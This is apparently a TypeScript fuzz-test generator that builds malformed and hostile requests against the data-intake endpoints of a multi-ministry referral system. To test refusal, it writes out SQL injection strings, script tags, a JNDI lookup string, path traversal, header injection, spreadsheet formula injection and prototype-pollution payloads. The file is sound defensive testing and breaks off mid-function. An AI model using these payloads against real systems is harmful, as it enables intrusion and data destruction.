/**
 * Malformed and hostile requests for every adapter endpoint, from a seeded PRNG: the same seed
 * gives the same cases. Each case says whether it must be refused (`reject`: nothing may be
 * written) or may be accepted (`may-accept`: a hostile but schema-valid value, such as SQL
 * metacharacters in a free-text field that is dropped).
 */
import { seededRandom } from '@passerelle/testing';
import { readFileSync } from 'node:fs';

import type { AdapterName } from '../adapters/adapter-harness.ts';

export type { AdapterName };
export type Expectation = 'reject' | 'may-accept';
export type Auth = 'valid' | 'none' | 'wrong' | 'basic' | 'garbage' | 'other-ministry';

export interface SweepCase {
  readonly id: number;
  readonly adapter: AdapterName;
  readonly method: string;
  readonly path: string;
  readonly endpoint: string;
  readonly category: string;
  readonly body?: string | Buffer;
  /** Undefined: no Content-Type header at all. */
  readonly contentType?: string;
  readonly auth: Auth;
  readonly headers?: Readonly<Record<string, string>>;
  readonly expect: Expectation;
  /** The status a refusal must have, when only one is right. */
  readonly status?: number;
  /** A field (or its enclosing element) the problem details must name. */
  readonly field?: string;
}

/** Planted in hostile values: no answer may quote it. */
export const CANARY = 'Zephyrine-Okonkwo-Q7';
/** A key planted in prototype-pollution attempts; Object.prototype must never gain it. */
export const POLLUTION_KEY = 'sweepPolluted';

// ---------------------------------------------------------------- PRNG

/** The sweep's generator: seeded, so a failing case is replayed from its seed. */
export const prng = seededRandom;

class Random {
  constructor(private readonly next: () => number) {}
  int(max: number): number {
    return Math.floor(this.next() * max);
  }
  pick<T>(items: readonly T[]): T {
    if (items.length === 0) throw new Error('pick from an empty list');
    return items[this.int(items.length)] as T;
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
}

// ---------------------------------------------------------------- hostile values

/**
 * SQL metacharacters. Every value holds a character no id, code or date accepts (a quote, a
 * space, a semicolon), so in a coded field each must be refused.
 */
export const SQL_VALUES: readonly string[] = [
  `'; DROP TABLE outbox; --${CANARY}`,
  `${CANARY}' OR '1'='1`,
  `1); DELETE FROM idempotency_keys WHERE (1=1 --${CANARY}`,
  `$$${CANARY}$$; SELECT pg_sleep(5); --`,
  `\\'; TRUNCATE source_ids; --${CANARY}`,
  `${CANARY}"; DROP SCHEMA public CASCADE; --`,
  `%${CANARY}%' AND 1=(SELECT COUNT(*) FROM pg_tables) --`,
  `${CANARY}'/**/UNION/**/SELECT/**/key_hash/**/FROM/**/idempotency_keys--`,
];

export const OTHER_HOSTILE_VALUES: readonly string[] = [
  `${CANARY}\u0000NUL`,
  `\u0000`,
  `\u202E${CANARY} fdp.exe`,
  `${CANARY} \u200B\uFEFF\u2028`,
  `\uD800${CANARY} lone surrogate`,
  `<script>alert('${CANARY}')</script>`,
  `\${jndi:ldap://x/${CANARY}}`,
  `{{7*7}} ${CANARY}`,
  `../../etc/passwd ${CANARY}`,
  `${CANARY}\r\nX-Injected: 1`,
  `=cmd|' /C calc'!A0 ${CANARY}`,
  `+1+${CANARY}`,
  `-1+${CANARY}`,
  `@SUM(${CANARY})`,
  `\t=1+${CANARY}`,
  `${CANARY} 🙂 Z̸̢͓a̵l̷g̶o`,
  `%s%n%x ${CANARY}`,
  ' ',
  '',
];

export const HOSTILE_VALUES: readonly string[] = [...SQL_VALUES, ...OTHER_HOSTILE_VALUES];

/** Dates every instant, date-or-instant and FHIR dateTime field must refuse. */
export const INVALID_DATES: readonly string[] = [
  '2025-02-30T10:00:00Z',
  '2025-04-31T00:00:00-05:00',
  '2024-02-30',
  '2025-13-01T00:00:00Z',
  '2025-00-10T00:00:00Z',
  '2025-03-01T24:30:00Z',
  '2025-03-01T24:00:00Z',
  '2025-03-01T10:61:00Z',
  '2025-03-01T10:00:00+25:00',
  '2999-01-01T00:00:00Z',
  '2025-03-01T10:00:00',
  '2025/03/01',
  '01/03/2025',
  'yesterday',
  '1e10',
  `2025-03-01T10:00:00Z ${CANARY}`,
];

const WRONG_TYPES: readonly unknown[] = [123, -1, 0, 1.5, true, false, null, [], {}, [CANARY], { $gt: '' }, { nested: CANARY }];
const OUT_OF_RANGE: readonly number[] = [-1, 13, 1.5, 1e308, -1e308, 2 ** 53 + 2, 0.1, 1e-7, 12.000001, 1e21];

// ---------------------------------------------------------------- endpoints

type Kind = 'code' | 'free' | 'flag' | 'number' | 'instant' | 'dob' | 'ignored';

interface JsonEndpoint {
  readonly adapter: AdapterName;
  readonly path: string;
  readonly contentType: string;
  readonly baseline: unknown;
  /** Fields with another kind than `code` (a value nothing but an id, an enum member or a pattern fits). */
  readonly kinds: Readonly<Record<string, Kind>>;
  /** Paths that may be left out. */
  readonly optional: readonly string[];
  readonly numbers?: Readonly<Record<string, { min: number; max: number }>>;
  /** Unknown keys are refused (strictObject) or ignored (FHIR). */
  readonly strict: boolean;
  /** Element paths of a loose (FHIR) resource that the schema does not read: anything goes there. */
  readonly ignoredPrefixes?: readonly string[];
  /** Which field a broken value of `path` is reported under, when it is not the path itself. */
  readonly reportedAs?: Readonly<Record<string, string>>;
  /** Gives the record fresh source ids (and times), so an accepted case never conflicts with another. */
  unique(body: Record<string, unknown>, n: number): void;
}

interface CsvEndpoint {
  readonly adapter: AdapterName;
  readonly path: string;
  readonly columns: readonly string[];
  readonly free: readonly string[];
  /** Columns that may be empty. */
  readonly optional: readonly string[];
  readonly dates: readonly string[];
  row(n: number): string[];
}

const fixture = (service: string, name: string): unknown =>
  JSON.parse(readFileSync(new URL(`../../services/adapter-${service}/fixtures/${name}`, import.meta.url), 'utf8')) as unknown;

/** A past instant unique to case n: milestone and status keys include their time. */
const instantFor = (n: number): string => new Date(Date.UTC(2000, 0, 1) + (n % 500_000_000) * 1000).toISOString().replace('.000Z', 'Z');

function set(body: Record<string, unknown>, path: string, value: unknown): void {
  const parts = parsePath(path);
  let current: unknown = body;
  for (const part of parts.slice(0, -1)) current = (current as Record<string | number, unknown>)[part];
  (current as Record<string | number, unknown>)[parts[parts.length - 1] as string | number] = value;
}

function lifecycle(adapter: AdapterName, field: string): JsonEndpoint[] {
  return [
    {
      adapter,
      path: '/referrals/status-changes',
      contentType: 'application/json',
      baseline: {
        [field]: 'REF-2025-1',
        status: 'accepted',
        reason: 'not_applicable',
        changedAt: '2025-03-04T09:00:00-05:00',
        notes: 'Counsellor assigned.',
      },
      kinds: { changedAt: 'instant', notes: 'free' },
      optional: ['reason', 'notes'],
      strict: true,
      unique: (b, n) => Object.assign(b, { [field]: `SW-${n}`, changedAt: instantFor(n) }),
    },
    {
      adapter,
      path: '/referrals/consent-withdrawals',
      contentType: 'application/json',
      baseline: { [field]: 'REF-2025-1', withdrawnAt: '2025-03-10T16:20:00-05:00', notes: 'By phone.' },
      kinds: { withdrawnAt: 'instant', notes: 'free' },
      optional: ['notes'],
      strict: true,
      unique: (b, n) => Object.assign(b, { [field]: `SW-${n}`, withdrawnAt: instantFor(n) }),
    },
  ];
}

function gaps(adapter: AdapterName): JsonEndpoint[] {
  return [
    {
      adapter,
      path: '/service-gaps',
      contentType: 'application/json',
      baseline: {
        gapReference: 'GAP-2025-1',
        observedAt: '2025-03-01T09:00:00-05:00',
        region: 'east',
        serviceCategory: 'housing',
        severity: 'high',
        gapCode: 'waitlist_too_long',
        affectedPopulations: { indigenous: true, youngWomen: null },
        description: 'No shelter beds within 200 km.',
      },
      kinds: {
        observedAt: 'instant',
        description: 'free',
        'affectedPopulations.indigenous': 'flag',
        'affectedPopulations.youngWomen': 'flag',
      },
      optional: ['affectedPopulations', 'affectedPopulations.indigenous', 'affectedPopulations.youngWomen', 'description'],
      strict: true,
      unique: (b, n) => Object.assign(b, { gapReference: `SW-GAP-${n}` }),
    },
    {
      adapter,
      path: '/service-gaps/resolutions',
      contentType: 'application/json',
      baseline: {
        gapReference: 'GAP-2025-1',
        resolvedAt: '2025-03-09T09:00:00-05:00',
        resolution: 'capacity_increased',
        notes: 'Ten beds added.',
      },
      kinds: { resolvedAt: 'instant', notes: 'free' },
      optional: ['notes'],
      strict: true,
      unique: (b, n) => Object.assign(b, { gapReference: `SW-GAP-${n}` }),
    },
  ];
}

function milestones(adapter: AdapterName, initiativeId: string): JsonEndpoint {
  return {
    adapter,
    path: '/initiative-milestones',
    contentType: 'application/json',
    baseline: {
      initiativeId,
      status: 'started',
      recordedAt: '2025-03-01T00:00:00Z',
      measure: { unit: 'people_trained', quantity: 12 },
      notes: 'Cohort one.',
    },
    kinds: { recordedAt: 'instant', notes: 'free', 'measure.quantity': 'number' },
    optional: ['measure', 'notes'],
    numbers: { 'measure.quantity': { min: 0, max: Number.MAX_SAFE_INTEGER } },
    strict: true,
    unique: (b, n) => Object.assign(b, { recordedAt: instantFor(n) }),
  };
}

export const JSON_ENDPOINTS: readonly JsonEndpoint[] = [
  {
    adapter: 'justice',
    path: '/referrals',
    contentType: 'application/json',
    baseline: fixture('justice', 'vwap-referral.json'),
    kinds: {
      'victim.firstName': 'free',
      'victim.lastName': 'free',
      'victim.dateOfBirth': 'dob',
      'victim.address.line': 'free',
      'victim.address.city': 'free',
      'victim.address.postalCode': 'free',
      'victim.address.province': 'free',
      'victim.phone': 'free',
      'riskFactors.youngWomen': 'flag',
      'riskFactors.indigenous': 'flag',
      'riskFactors.migrantWorkers': 'flag',
      referredAt: 'instant',
      notes: 'free',
    },
    optional: [
      'caseNumber',
      'victim.firstName',
      'victim.lastName',
      'victim.dateOfBirth',
      'victim.address',
      'victim.address.line',
      'victim.address.city',
      'victim.address.postalCode',
      'victim.address.province',
      'victim.phone',
      'referredTo.ministry',
      'riskFactors',
      'riskFactors.youngWomen',
      'riskFactors.indigenous',
      'riskFactors.migrantWorkers',
      'notes',
    ],
    strict: true,
    unique: (b, n) => Object.assign(b, { referralNumber: `SW-${n}` }),
  },
  ...lifecycle('justice', 'referralNumber'),
  ...gaps('justice'),
  milestones('justice', 'S2016-P2-01'),
  {
    adapter: 'child-welfare',
    path: '/referrals',
    contentType: 'application/json',
    baseline: fixture('child-welfare', 'cas-referral.json'),
    kinds: {
      'child.givenName': 'free',
      'child.familyName': 'free',
      'child.birthDate': 'dob',
      'child.address': 'free',
      indigenousIdentity: 'flag',
      referralDate: 'instant',
      workerNotes: 'free',
    },
    optional: ['child.givenName', 'child.familyName', 'child.birthDate', 'child.address', 'indigenousIdentity', 'workerNotes'],
    strict: true,
    unique: (b, n) => Object.assign(b, { casReference: `CAST-SW-${n}` }),
  },
  ...lifecycle('child-welfare', 'casReference'),
  ...gaps('child-welfare'),
  milestones('child-welfare', 'S2016-P1-01'),
  {
    adapter: 'education',
    path: '/referrals',
    contentType: 'application/json',
    baseline: fixture('education', 'school-board-referral.json'),
    kinds: {
      'student.legalFirstName': 'free',
      'student.legalLastName': 'free',
      'student.dateOfBirth': 'dob',
      'student.homeAddress': 'free',
      'student.grade': 'number',
      'flags.youngWomen': 'flag',
      referredOn: 'instant',
      staffNotes: 'free',
    },
    optional: [
      'schoolNumber',
      'student.legalFirstName',
      'student.legalLastName',
      'student.dateOfBirth',
      'student.homeAddress',
      'student.grade',
      'referredTo.ministry',
      'flags',
      'flags.youngWomen',
      'staffNotes',
    ],
    numbers: { 'student.grade': { min: 0, max: 12 } },
    strict: true,
    unique: (b, n) => Object.assign(b, { boardReferralId: `SW-${n}` }),
  },
  ...lifecycle('education', 'boardReferralId'),
  ...gaps('education'),
  milestones('education', 'S2016-P1-03'),
  {
    adapter: 'health',
    path: '/fhir/ServiceRequest',
    contentType: 'application/fhir+json',
    baseline: fixture('health', 'service-request-full.json'),
    kinds: {
      authoredOn: 'instant',
      'meta.lastUpdated': 'instant',
      'subject.display': 'free',
      'requester.display': 'free',
      'category[0].text': 'free',
      'code.coding[0].display': 'free',
    },
    optional: [
      'meta',
      'text',
      'extension',
      'identifier',
      'priority',
      'category',
      'code',
      'requester',
      'performerType',
      'authoredOn',
      'reasonCode',
      'note',
      'subject.reference',
      'subject.identifier',
      'subject.display',
    ],
    strict: false,
    // Not read by the schema, or read only when they name Passerelle's systems.
    ignoredPrefixes: [
      'text',
      'identifier',
      'note',
      'subject.reference',
      'requester.reference',
      'code.coding[0].system',
      'code.coding[0].code',
      'category[0].coding[0].system',
      'performerType.coding[0].system',
      'reasonCode[0].coding[0].system',
      'reasonCode[1].coding[0].system',
      'reasonCode[2].text',
      'extension[0].url',
      'extension[1].url',
      'extension[2].url',
      'subject.identifier.system',
    ],
    unique: (b, n) => Object.assign(b, { id: `sr-sw-${n}` }),
  },
  {
    adapter: 'health',
    path: '/fhir/Task',
    contentType: 'application/fhir+json',
    baseline: fixture('health', 'task-accepted.json'),
    kinds: { lastModified: 'instant' },
    optional: ['lastModified', 'owner', 'note'],
    strict: false,
    ignoredPrefixes: ['owner', 'note'],
    reportedAs: { 'focus.reference': 'focus' },
    unique: (b, n) => Object.assign(b, { id: `task-sw-${n}`, lastModified: instantFor(n) }),
  },
  ...gaps('health'),
  milestones('health', 'S2016-P1-05'),
  milestones('coordination-office', 'S2016-P1-04'),
];

export const CSV_ENDPOINTS: readonly CsvEndpoint[] = [
  {
    adapter: 'justice',
    path: '/referrals/batch',
    columns: [
      'referral_number',
      'program',
      'person_id',
      'first_name',
      'receiving_service_type',
      'support_needed',
      'region',
      'urgency',
      'consent',
      'indigenous',
      'referred_at',
      'notes',
    ],
    free: ['first_name', 'notes'],
    optional: ['first_name', 'indigenous', 'notes'],
    dates: ['referred_at'],
    row: (n) => [
      `SW-CSV-${n}`,
      'vwap',
      `JP-${n}`,
      'Ann',
      'community_agency',
      'housing',
      'toronto',
      'routine',
      'standard',
      'yes',
      '2025-03-05',
      'Prefers evenings',
    ],
  },
  {
    adapter: 'child-welfare',
    path: '/referrals/batch',
    columns: [
      'record_type',
      'agency_code',
      'cas_reference',
      'event_date',
      'child_id',
      'child_given_name',
      'legal_status',
      'service_requested',
      'receiving_service_type',
      'region',
      'response_time',
      'consent_scope',
      'indigenous_identity',
      'worker_notes',
    ],
    free: ['child_given_name', 'worker_notes'],
    optional: ['child_given_name', 'indigenous_identity', 'worker_notes'],
    dates: ['event_date'],
    row: (n) => [
      'referral',
      'CASO',
      `CASO-SW-${n}`,
      '2025-03-01',
      `CW-${n}`,
      'Maya',
      'in_care',
      'trauma_counselling',
      'health_provider',
      'east',
      '12_hours',
      'standard',
      'no',
      'Placement review',
    ],
  },
];

/** Every adapter route, for the method and path cases. */
export const ROUTES: readonly { adapter: AdapterName; path: string }[] = [
  ...JSON_ENDPOINTS.map(({ adapter, path }) => ({ adapter, path })),
  ...CSV_ENDPOINTS.map(({ adapter, path }) => ({ adapter, path })),
];

// ---------------------------------------------------------------- JSON paths

type PathPart = string | number;

export function parsePath(path: string): PathPart[] {
  const parts: PathPart[] = [];
  for (const match of path.matchAll(/([^.[\]]+)|\[(\d+)\]/g)) parts.push(match[2] !== undefined ? Number(match[2]) : (match[1] as string));
  return parts;
}

function joinPath(prefix: string, part: PathPart): string {
  return typeof part === 'number' ? `${prefix}[${part}]` : prefix === '' ? part : `${prefix}.${part}`;
}

interface Node {
  readonly path: string;
  readonly value: unknown;
  readonly leaf: boolean;
}

function nodesOf(value: unknown, prefix = ''): Node[] {
  if (typeof value !== 'object' || value === null) return [{ path: prefix, value, leaf: true }];
  const entries: [PathPart, unknown][] = Array.isArray(value)
    ? value.map((v, i) => [i, v])
    : Object.entries(value as Record<string, unknown>);
  const own: Node[] = prefix === '' ? [] : [{ path: prefix, value, leaf: false }];
  return [...own, ...entries.flatMap(([key, child]) => nodesOf(child, joinPath(prefix, key)))];
}

const clone = <T>(value: T): T => structuredClone(value);

function remove(body: Record<string, unknown>, path: string): void {
  const parts = parsePath(path);
  let current: unknown = body;
  for (const part of parts.slice(0, -1)) current = (current as Record<string | number, unknown>)[part];
  const last = parts[parts.length - 1] as string | number;
  if (Array.isArray(current) && typeof last === 'number') current.splice(last, 1);
  else delete (current as Record<string | number, unknown>)[last];
}

/** Deep nesting as JSON text, built without recursion. */
export function nestedJson(depth: number, style: 'object' | 'array'): string {
  return style === 'object' ? `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}` : `${'['.repeat(depth)}1${']'.repeat(depth)}`;
}

// ---------------------------------------------------------------- the generator

export interface GeneratorOptions {
  readonly seed: number;
  readonly cases: number;
}

const JSON_LIMIT = 64 * 1024;
const CSV_LIMIT = 2 * 1024 * 1024;

class Builder {
  readonly cases: SweepCase[] = [];
  constructor(readonly random: Random) {}

  add(c: Omit<SweepCase, 'id'>): void {
    this.cases.push({ ...c, id: this.cases.length + 1 });
  }
}

/** Whether a leaf of kind `kind` at `path` of `endpoint` is read by the schema at all. */
function kindAt(endpoint: JsonEndpoint, path: string): Kind {
  const kind = endpoint.kinds[path];
  if (kind) return kind;
  if (endpoint.ignoredPrefixes?.some((prefix) => path === prefix || path.startsWith(`${prefix}.`) || path.startsWith(`${prefix}[`)))
    return 'ignored';
  return 'code';
}

function reported(endpoint: JsonEndpoint, path: string): string {
  return endpoint.reportedAs?.[path] ?? path;
}

function jsonCase(
  b: Builder,
  endpoint: JsonEndpoint,
  category: string,
  body: unknown,
  expectation: Expectation,
  field?: string,
  extra: Partial<SweepCase> = {},
): void {
  const text = typeof body === 'string' ? body : JSON.stringify(body);
  const tooLarge = Buffer.byteLength(text, 'utf8') > JSON_LIMIT;
  b.add({
    adapter: endpoint.adapter,
    method: 'POST',
    path: endpoint.path,
    endpoint: `${endpoint.adapter} POST ${endpoint.path}`,
    category,
    body: text,
    contentType: endpoint.contentType,
    auth: 'valid',
    ...(tooLarge
      ? { expect: 'reject', status: 413 }
      : {
          expect: expectation,
          ...(expectation === 'reject' ? { status: 400 } : {}),
          ...(field !== undefined && expectation === 'reject' ? { field } : {}),
        }),
    ...extra,
  });
}

function freshBody(endpoint: JsonEndpoint, b: Builder): Record<string, unknown> {
  const body = clone(endpoint.baseline) as Record<string, unknown>;
  endpoint.unique(body, b.cases.length + 1 + b.random.int(1_000_000_000));
  return body;
}

/** One string field given a hostile value: refused in coded fields, perhaps accepted in free text. */
function stringCase(b: Builder, endpoint: JsonEndpoint, path: string, value: string, category: string): void {
  const body = freshBody(endpoint, b);
  set(body, path, value);
  const kind = kindAt(endpoint, path);
  const mayAccept = kind === 'free' || kind === 'ignored';
  jsonCase(b, endpoint, category, body, mayAccept ? 'may-accept' : 'reject', reported(endpoint, path));
}

function jsonKind(value: unknown): string {
  return value === null ? 'null' : Array.isArray(value) ? 'array' : typeof value;
}

function wrongTypeCase(b: Builder, endpoint: JsonEndpoint, node: Node, value: unknown): void {
  const body = freshBody(endpoint, b);
  set(body, node.path, clone(value));
  const kind = kindAt(endpoint, node.path);
  // An empty object for an object of optional fields, or an empty list, is the right type after all.
  const sameKind = !node.leaf && jsonKind(value) === jsonKind(node.value);
  const fits = (kind === 'flag' && (value === null || typeof value === 'boolean')) || kind === 'ignored' || sameKind;
  jsonCase(b, endpoint, 'wrong type', body, fits ? 'may-accept' : 'reject', reported(endpoint, node.path));
}

function missingCase(b: Builder, endpoint: JsonEndpoint, node: Node): void {
  const body = freshBody(endpoint, b);
  remove(body, node.path);
  const optional =
    endpoint.optional.some((p) => node.path === p || node.path.startsWith(`${p}.`) || node.path.startsWith(`${p}[`)) ||
    kindAt(endpoint, node.path) === 'ignored';
  jsonCase(b, endpoint, 'missing field', body, optional ? 'may-accept' : 'reject', reported(endpoint, node.path));
}

function generateJson(b: Builder, endpoint: JsonEndpoint): void {
  const r = b.random;
  const nodes = nodesOf(endpoint.baseline);
  const strings = nodes.filter((n) => n.leaf && typeof n.value === 'string');
  const dates = nodes.filter((n) => n.leaf && kindAt(endpoint, n.path) === 'instant');
  const dobs = nodes.filter((n) => n.leaf && kindAt(endpoint, n.path) === 'dob');
  const numbers = nodes.filter((n) => n.leaf && kindAt(endpoint, n.path) === 'number');

  // Every string field gets every SQL value and a hostile value or two.
  for (const node of strings) {
    for (const value of SQL_VALUES) stringCase(b, endpoint, node.path, value, 'sql metacharacters');
    stringCase(b, endpoint, node.path, r.pick(OTHER_HOSTILE_VALUES), 'hostile string');
  }
  // Every field (and element) with a wrong type, and left out.
  for (const node of nodes) {
    wrongTypeCase(b, endpoint, node, r.pick(WRONG_TYPES));
    missingCase(b, endpoint, node);
  }
  // Bodies that are JSON but not a record: whole-record checks must not throw on them.
  for (const text of ['null', '0', '"text"', '[]', 'true', '[{}]']) jsonCase(b, endpoint, 'not a JSON record', text, 'reject', 'body');
  for (const node of dates) for (const value of INVALID_DATES) stringCase(b, endpoint, node.path, value, 'invalid date');
  for (const node of dobs) {
    // Birth dates are dropped, but a day the calendar does not have is still refused.
    for (const value of ['2001-02-30', '9999-99-99', '2001-13-01']) stringCase(b, endpoint, node.path, value, 'invalid birth date');
  }
  for (const node of numbers) {
    const range = endpoint.numbers?.[node.path] ?? { min: 0, max: Number.MAX_SAFE_INTEGER };
    for (const value of OUT_OF_RANGE) {
      const body = freshBody(endpoint, b);
      set(body, node.path, value);
      const valid = Number.isInteger(value) && value >= range.min && value <= range.max;
      jsonCase(b, endpoint, 'number out of range', body, valid ? 'may-accept' : 'reject', node.path);
    }
  }
}

interface JsonShape {
  readonly strings: readonly Node[];
  readonly topKeys: readonly string[];
}

/** Whole-body attacks, and more field attacks at random; `count` of them. */
function generateJsonRandom(b: Builder, endpoint: JsonEndpoint, count: number, shape: JsonShape): void {
  const r = b.random;
  const structural: ((n: number) => void)[] = [
    () => {
      const node = r.pick(shape.strings);
      stringCase(b, endpoint, node.path, r.pick(HOSTILE_VALUES), 'hostile string');
    },
    () => {
      // A long string: refused in a coded field, too long for most free text, 413 past the limit.
      const node = r.pick(shape.strings);
      const length = r.pick([5_000, 12_000, 40_000, 70_000, 300_000]);
      const body = freshBody(endpoint, b);
      set(body, node.path, `${CANARY}${'A'.repeat(length)}`);
      const kind = kindAt(endpoint, node.path);
      jsonCase(
        b,
        endpoint,
        'huge string',
        body,
        kind === 'ignored' || (!endpoint.strict && kind === 'free') ? 'may-accept' : 'reject',
        reported(endpoint, node.path),
      );
    },
    () => {
      const body = freshBody(endpoint, b);
      body['padding'] = CANARY + 'x'.repeat(r.pick([70_000, 200_000, 1_500_000]));
      jsonCase(b, endpoint, 'huge body', body, 'reject');
    },
    () => {
      const depth = r.pick([25, 100, 1_000, 10_000]);
      const style = r.pick(['object', 'array'] as const);
      if (r.chance(0.5)) {
        jsonCase(b, endpoint, 'deep nesting', nestedJson(depth, style), 'reject', 'body');
      } else {
        const text = JSON.stringify(freshBody(endpoint, b)).replace(/}$/, `,"deep":${nestedJson(depth, style)}}`);
        jsonCase(b, endpoint, 'deep nesting', text, 'reject', 'body');
      }
    },
    () => {
      const node = r.pick(shape.strings);
      const body = freshBody(endpoint, b);
      const size = r.pick([100, 5_000, 30_000]);
      set(
        body,
        node.path,
        Array.from({ length: size }, () => 0),
      );
      jsonCase(
        b,
        endpoint,
        'enormous array',
        body,
        kindAt(endpoint, node.path) === 'ignored' ? 'may-accept' : 'reject',
        reported(endpoint, node.path),
      );
    },
    () => {
      // Bytes that are not UTF-8 inside a string value.
      const text = JSON.stringify(freshBody(endpoint, b));
      const bad = r.pick([[0xc3, 0x28], [0xff], [0xed, 0xa0, 0x80], [0xe2, 0x82], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xc0, 0xaf]]);
      const at = text.indexOf('"', 2) + 1;
      const bytes = Buffer.concat([Buffer.from(text.slice(0, at)), Buffer.from(bad), Buffer.from(text.slice(at))]);
      b.add({
        adapter: endpoint.adapter,
        method: 'POST',
        path: endpoint.path,
        endpoint: `${endpoint.adapter} POST ${endpoint.path}`,
        category: 'invalid utf-8',
        body: bytes,
        contentType: endpoint.contentType,
        auth: 'valid',
        expect: 'reject',
        status: 400,
        field: 'body',
      });
    },
    () => {
      const text = r.pick([
        `{"${shape.topKeys[0] ?? 'a'}": ${CANARY}`,
        `{'single': 'quotes ${CANARY}'}`,
        `{"a": NaN}`,
        `{"a": 1} trailing ${CANARY}`,
        `{"a": 1 /* ${CANARY} */}`,
        '',
        'null',
        `"${CANARY}"`,
        '123',
        'true',
        '[]',
        `[${JSON.stringify(freshBody(endpoint, b))}]`,
        '{"a":1,}',
        '\u0000',
      ]);
      jsonCase(b, endpoint, 'not a JSON record', text, 'reject', 'body');
    },
    () => {
      const text = JSON.stringify(freshBody(endpoint, b));
      const contentType = r.pick([
        'text/plain',
        'application/xml',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=----x',
        'text/csv',
        'application/jsonx',
        '*/*',
        'application/json; charset=iso-8859-1',
        'application/json; charset=utf-16',
        `application/json; charset=${CANARY}`,
        `application/${CANARY}`,
        undefined,
      ]);
      b.add({
        adapter: endpoint.adapter,
        method: 'POST',
        path: endpoint.path,
        endpoint: `${endpoint.adapter} POST ${endpoint.path}`,
        category: 'wrong content type',
        body: text,
        ...(contentType === undefined ? {} : { contentType }),
        auth: 'valid',
        expect: 'reject',
        status: 415,
        field: 'Content-Type',
      });
    },
    () => {
      // Prototype pollution: own keys __proto__ / constructor.prototype, at the top or in a nested object.
      const body = freshBody(endpoint, b);
      const nested = Object.entries(body).find(([, v]) => typeof v === 'object' && v !== null && !Array.isArray(v))?.[0];
      const inside = nested !== undefined && r.chance(0.5);
      const payload = r.pick([
        `"__proto__":{"${POLLUTION_KEY}":"${CANARY}"}`,
        `"constructor":{"prototype":{"${POLLUTION_KEY}":"${CANARY}"}}`,
        `"__proto__":{"toString":"${CANARY}","isAdmin":true}`,
      ]);
      const key = payload.startsWith('"__proto__"') ? '__proto__' : 'constructor';
      let text = JSON.stringify(body);
      if (inside) {
        const marker = `"${nested}":{`;
        text = text.replace(marker, `${marker}${payload},`);
      } else {
        text = text.replace(/}$/, `,${payload}}`);
      }
      jsonCase(b, endpoint, 'prototype pollution', text, endpoint.strict ? 'reject' : 'may-accept', inside ? `${nested}.${key}` : key);
    },
    () => {
      const body = freshBody(endpoint, b);
      // Key names are named back in the answer (that is the point), so the canary goes in values only.
      const key = r.pick([
        'isAdmin',
        'referralId2',
        '$where',
        'sourceMinistry',
        'eventId',
        "x'; drop table outbox; --",
        '\u202Eevil',
        'x'.repeat(500),
      ]);
      body[key] = r.pick([true, CANARY, 1, { $ne: null }]);
      jsonCase(b, endpoint, 'extra field', body, endpoint.strict ? 'reject' : 'may-accept', key);
    },
    () => {
      // Duplicate keys: JSON.parse keeps the last; the last one here is hostile.
      const node = r.pick(shape.strings.filter((s) => !s.path.includes('.') && !s.path.includes('[')));
      const body = freshBody(endpoint, b);
      const text = JSON.stringify(body).replace(/}$/, `,${JSON.stringify(node.path)}:${JSON.stringify(r.pick(SQL_VALUES))}}`);
      const kind = kindAt(endpoint, node.path);
      jsonCase(b, endpoint, 'duplicate key', text, kind === 'free' || kind === 'ignored' ? 'may-accept' : 'reject', node.path);
    },
    () => {
      const auth = r.pick(['none', 'wrong', 'basic', 'garbage', 'other-ministry'] as const);
      const body = freshBody(endpoint, b);
      jsonCase(b, endpoint, 'bad credential', body, 'reject', undefined, { auth, status: 401 });
    },
    () => {
      const key = r.pick([`${CANARY} '; drop table idempotency_keys; --`, 'x'.repeat(201), 'two words', `"${CANARY}"\tx`, '\u00e9t\u00e9']);
      const body = freshBody(endpoint, b);
      // Header values must be Latin-1 for fetch: é is sent as a byte outside visible ASCII.
      jsonCase(b, endpoint, 'bad idempotency key', body, 'reject', 'Idempotency-Key', { headers: { 'idempotency-key': key } });
    },
  ];
  for (let i = 0; i < count; i += 1) r.pick(structural)(i);
}

// ---------------------------------------------------------------- CSV

function csvCell(value: string): string {
  return /[",\r\n]/.test(value) || value !== value.trim() ? `"${value.replace(/"/g, '""')}"` : value;
}

function csvText(header: readonly string[], rows: readonly (readonly string[])[], eol = '\n'): string {
  return [header.join(','), ...rows.map((row) => row.map(csvCell).join(','))].join(eol) + eol;
}

function csvCase(
  b: Builder,
  endpoint: CsvEndpoint,
  category: string,
  body: string | Buffer,
  expectation: Expectation,
  field?: string,
  extra: Partial<SweepCase> = {},
): void {
  const tooLarge = (typeof body === 'string' ? Buffer.byteLength(body) : body.length) > CSV_LIMIT;
  b.add({
    adapter: endpoint.adapter,
    method: 'POST',
    path: endpoint.path,
    endpoint: `${endpoint.adapter} POST ${endpoint.path}`,
    category,
    body,
    contentType: 'text/csv',
    auth: 'valid',
    ...(tooLarge
      ? { expect: 'reject', status: 413 }
      : {
          expect: expectation,
          ...(expectation === 'reject' ? { status: 400 } : {}),
          ...(field !== undefined && expectation === 'reject' ? { field } : {}),
        }),
    ...extra,
  });
}

function csvRows(b: Builder, endpoint: CsvEndpoint, count: number): string[][] {
  const base = b.cases.length * 10 + b.random.int(1_000_000_000);
  return Array.from({ length: count }, (_, i) => endpoint.row(base + i));
}

function csvCellCase(b: Builder, endpoint: CsvEndpoint, column: string, value: string, category: string): void {
  const columns = endpoint.columns;
  const rows = csvRows(b, endpoint, 3);
  const rowIndex = b.random.int(rows.length);
  (rows[rowIndex] as string[])[columns.indexOf(column)] = value;
  const free = endpoint.free.includes(column);
  const empty = value.trim() === '';
  const mayAccept = free || (empty && endpoint.optional.includes(column));
  csvCase(b, endpoint, category, csvText(columns, rows), mayAccept ? 'may-accept' : 'reject', `row ${rowIndex + 2}, column ${column}`);
}

/** Every column gets every SQL value, every formula start and a NUL byte; every date column every invalid date. */
function generateCsvSystematic(b: Builder, endpoint: CsvEndpoint): void {
  for (const column of endpoint.columns) {
    for (const value of SQL_VALUES) csvCellCase(b, endpoint, column, value, 'sql metacharacters');
    for (const value of [
      `=cmd|' /C calc'!A0 ${CANARY}`,
      `+1+${CANARY}`,
      `-1+${CANARY}`,
      `@SUM(${CANARY})`,
      `\t=1+${CANARY}`,
      `=HYPERLINK("http://x/?${CANARY}","click")`,
    ]) {
      csvCellCase(b, endpoint, column, value, 'csv injection');
    }
    csvCellCase(b, endpoint, column, `${CANARY}\u0000`, 'hostile string');
  }
  for (const column of endpoint.dates)
